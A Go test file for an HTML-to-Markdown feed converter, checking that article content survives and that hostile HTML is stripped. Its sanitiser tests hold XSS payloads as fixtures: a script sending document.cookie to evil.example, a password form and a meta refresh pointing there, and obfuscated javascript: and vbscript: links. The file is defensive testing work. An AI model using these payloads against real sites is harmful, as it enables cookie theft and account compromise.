package feeds

import (
	"os"
	"strings"
	"testing"

	"masthead/templates"
)

// roundTrip converts src to Markdown and renders that the way an issue does.
func roundTrip(t *testing.T, c *Converter, src, base string) (md, html, text string) {
	t.Helper()
	md, err := c.Markdown(src, base)
	if err != nil {
		t.Fatalf("Markdown: %v", err)
	}
	h, text, err := templates.NewMarkdown().Markdown(md)
	if err != nil {
		t.Fatalf("render the Markdown: %v\n%s", err, md)
	}
	return md, string(h), text
}

func TestConvertKeepsTheArticle(t *testing.T) {
	c := NewConverter()
	src := `<p>Temperatures climbed past <strong>100 degrees</strong> and the city opened <a href="/2009/07/08/cooling-centres/">cooling centres</a>.</p>
<figure><img src="../uploads/heat.jpg" alt="Children in the fountain"><figcaption>Photo: <em>Jimmy Olsen</em></figcaption></figure>
<h2>What the city advises</h2>
<ul><li>Drink water often.</li><li>Check on <em>elderly</em> neighbours.</li></ul>
<ol><li>First</li><li>Second</li></ol>
<blockquote><p>“Not since 1988,” said the meteorologist.</p></blockquote>
<p>Relief by the weekend. <a href="https://weather.example/metropolis">Forecast</a>, <a href="mailto:desk@planet.example">write to us</a>.</p>`
	md, html, text := roundTrip(t, c, src, "https://planet.example/2009/07/09/heat-wave/")

	for _, want := range []string{
		`<strong>100 degrees</strong>`,
		`<a href="https://planet.example/2009/07/08/cooling-centres/" rel="nofollow">cooling centres</a>`,
		`<img src="https://planet.example/2009/07/09/uploads/heat.jpg" alt="Children in the fountain"`,
		`<h3>What the city advises</h3>`, // headings shift under the headline
		"<ul>\n<li>Drink water often.</li>\n<li>Check on <em>elderly</em> neighbours.</li>\n</ul>",
		"<ol>\n<li>First</li>\n<li>Second</li>\n</ol>",
		"<blockquote>\n<p>“Not since 1988,” said the meteorologist.</p>\n</blockquote>",
		`<a href="https://weather.example/metropolis" rel="nofollow">Forecast</a>`,
		`<a href="mailto:desk@planet.example" rel="nofollow">write to us</a>`,
	} {
		if !strings.Contains(html, want) {
			t.Errorf("rendered HTML lacks %s\nMarkdown:\n%s\nHTML:\n%s", want, md, html)
		}
	}
	if n := strings.Count(html, "<p>"); n < 4 {
		t.Errorf("%d paragraphs in the HTML, want at least 4:\n%s", n, html)
	}
	flat := strings.Join(strings.Fields(text), " ")
	for _, want := range []string{
		"cooling centres <https://planet.example/2009/07/08/cooling-centres/>",
		"write to us <mailto:desk@planet.example>",
		"[image: Children in the fountain]",
	} {
		if !strings.Contains(flat, want) {
			t.Errorf("text part lacks %q:\n%s", want, text)
		}
	}
	for _, want := range []string{
		"What the city advises\n-----",
		"- Drink water often.\n- Check on elderly neighbours.",
		"1. First\n2. Second",
		"> “Not since 1988,” said the meteorologist.",
	} {
		if !strings.Contains(text, want) {
			t.Errorf("text part lacks %q:\n%s", want, text)
		}
	}
}

func TestConvertDropsWhatIsDangerous(t *testing.T) {
	for _, bad := range []string{`<script>`, `<p onclick="x()">`, `<a href=" javascript:x">`, `<p style="x">`, `<IFRAME src=x>`, `<img src='data:image/svg+xml,x'>`} {
		if unsafeHTML(bad) == nil {
			t.Fatalf("the check misses %s", bad)
		}
	}
	if err := unsafeHTML(`<p title="x onclick=y">javascript:alert(1) &lt;script&gt; <a href="/a:b">r</a></p>`); err != nil {
		t.Fatalf("the check refuses safe HTML: %v", err)
	}
	c := NewConverter()
	tests := []struct {
		name, src string
		keep      []string // in the rendered HTML
	}{
		{"script", `<p>Before</p><script>document.location='https://evil.example/?'+document.cookie</script><p>After</p>`,
			[]string{"<p>Before</p>", "<p>After</p>"}},
		{"onerror", `<p><img src="https://planet.example/a.jpg" onerror="alert(1)" alt="A"></p>`,
			[]string{`<img src="https://planet.example/a.jpg" alt="A"`}},
		{"event handlers", `<p onclick="steal()" onmouseover="x()">Text <a href="https://planet.example/" onfocus="y()">link</a></p>`,
			[]string{`Text <a href="https://planet.example/" rel="nofollow">link</a>`}},
		{"javascript link", `<p><a href="javascript:alert('x')">label</a> <a href="JaVaScRiPt:alert(3)">mixed</a> <a href="&#106;avascript:alert(4)">entity</a> <a href=" javascript:alert(5)">space</a></p>`,
			[]string{"<p>label mixed entity space</p>"}},
		{"iframe", `<p>Watch:</p><iframe src="https://www.youtube.com/embed/abc" onload="x()">fallback <b>text</b></iframe><iframe src="javascript:alert(1)"></iframe>`,
			[]string{`<a href="https://www.youtube.com/embed/abc" rel="nofollow">Embedded content from youtube.com</a>`}},
		{"style", `<style>p{display:none}</style><p style="color:red;background:url(javascript:alert(1))">Visible</p>`,
			[]string{"<p>Visible</p>"}},
		{"svg and forms", `<svg onload="alert(7)"><circle r="1"/></svg><form action="https://evil.example/"><input type="password" name="p"></form><p>Kept</p>`,
			[]string{"<p>Kept</p>"}},
		{"data and vbscript", `<p><a href="data:text/html;base64,PHNjcmlwdD4=">d</a> <a href="vbscript:msgbox(1)">v</a> <img src="data:image/svg+xml;base64,PHN2Zz4=" alt="x"></p>`,
			[]string{"<p>d v</p>"}},
		{"markdown in text", `<p>[click](javascript:alert(9)) ![i](javascript:alert(10)) &lt;script&gt;alert(11)&lt;/script&gt;</p>`,
			[]string{"[click](", "&lt;script&gt;"}},
		{"meta and object", `<meta http-equiv="refresh" content="0;url=https://evil.example/"><object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y.swf"><p>Fine</p>`,
			[]string{"<p>Fine</p>"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			md, html, text := roundTrip(t, c, tt.src, "https://planet.example/2009/07/09/story/")
			if err := unsafeHTML(html); err != nil {
				t.Errorf("rendered HTML holds %v:\n%s\nMarkdown:\n%s", err, html, md)
			}
			// The body is safe by itself, before templates sanitises again.
			if raw, err := rawRender(md); err != nil || unsafeHTML(raw) != nil {
				t.Errorf("Markdown renders, unsanitised, to %v %v:\n%s", err, unsafeHTML(raw), raw)
			}
			for _, k := range tt.keep {
				if !strings.Contains(html, k) {
					t.Errorf("rendered HTML lacks %s:\n%s\nMarkdown:\n%s", k, html, md)
				}
			}
			if strings.Contains(text, "alert(1)") || strings.Contains(text, "document.cookie") {
				t.Errorf("text part shows script:\n%s", text)
			}
		})
	}
}

func TestConvertLinks(t *testing.T) {
	c := NewConverter()
	tests := []struct {
		name, src, base, want string
	}{
		{"relative to the page", `<a href="next">n</a>`, "https://a.example/news/story", "[n](https://a.example/news/next)"},
		{"root relative", `<a href="/about">n</a>`, "https://a.example/news/story", "[n](https://a.example/about)"},
		{"protocol relative", `<a href="//cdn.example/x">n</a>`, "https://a.example/", "[n](https://cdn.example/x)"},
		{"no base drops relative", `<p><a href="/about">about us</a></p>`, "", "about us"},
		{"no base keeps absolute", `<a href="https://b.example/">b</a>`, "", "[b](https://b.example/)"},
		{"fragment only", `<p>See note<a href="#fn1">1</a></p>`, "https://a.example/s", "See note1"},
		{"lazy image", `<img src="data:image/gif;base64,R0lG" data-src="/img/a.jpg" alt="A">`, "https://a.example/s", "![A](https://a.example/img/a.jpg)"},
		{"image without address", `<p>x<img alt="gone"></p>`, "https://a.example/s", "x"},
		{"image in a dropped link", `<p><a href="javascript:x()"><img src="/i.png" alt="I"></a></p>`, "https://a.example/s", "![I](https://a.example/i.png)"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := c.Markdown(tt.src, tt.base)
			if err != nil {
				t.Fatal(err)
			}
			if got != tt.want {
				t.Errorf("Markdown(%q, %q) = %q, want %q", tt.src, tt.base, got, tt.want)
			}
		})
	}
}

func TestExcerptAndText(t *testing.T) {
	c := NewConverter()
	got, err := c.Excerpt(`<figure><img src="https://a.example/i.jpg"></figure><p> </p><p>First <em>real</em> paragraph.</p><p>Second.</p>`, "")
	if err != nil {
		t.Fatal(err)
	}
	if got != "First *real* paragraph." {
		t.Errorf("Excerpt = %q", got)
	}
	for in, want := range map[string]string{
		"Ferry Strike Ends After <em>Nine</em> Days": "Ferry Strike Ends After Nine Days",
		"AT&amp;T  &amp; Rates < 5%\n":               "AT&T & Rates < 5%",
		"Plain\ttitle ":                              "Plain title",
		"<script>alert(1)</script>Headline":          "Headline",
		"Why x<y matters, and a<b":                   "Why x<y matters, and a<b",
		"Fish &amp;amp; chips":                       "Fish &amp; chips",
	} {
		if got := c.Text(in); got != want {
			t.Errorf("Text(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestConvertHostileFixture(t *testing.T) {
	b, err := os.ReadFile("testdata/hostile-rss2.xml")
	if err != nil {
		t.Fatal(err)
	}
	f, err := NewParser().Parse(b, "https://compromised.example/feed/", Full)
	if err != nil {
		t.Fatal(err)
	}
	if len(f.Items) != 1 {
		t.Fatalf("%d items, skipped %v", len(f.Items), f.Skipped)
	}
	it := f.Items[0]
	if it.Title != "Ordinary Headline" || it.Link != "" || it.Key != "hostile-1" {
		t.Errorf("title %q, link %q (a javascript: link must go), key %q", it.Title, it.Link, it.Key)
	}
	h, text, err := templates.NewMarkdown().Markdown(it.Body)
	if err != nil {
		t.Fatal(err)
	}
	if err := unsafeHTML(string(h)); err != nil {
		t.Errorf("rendered HTML holds %v:\n%s", err, h)
	}
	for _, want := range []string{"First paragraph survives", "Last paragraph, with", `href="https://compromised.example/ok"`} {
		if !strings.Contains(string(h), want) {
			t.Errorf("rendered HTML lacks %q:\n%s", want, h)
		}
	}
	if !strings.Contains(strings.Join(strings.Fields(text), " "), "a good link <https://compromised.example/ok>") {
		t.Errorf("text part:\n%s", text)
	}
}
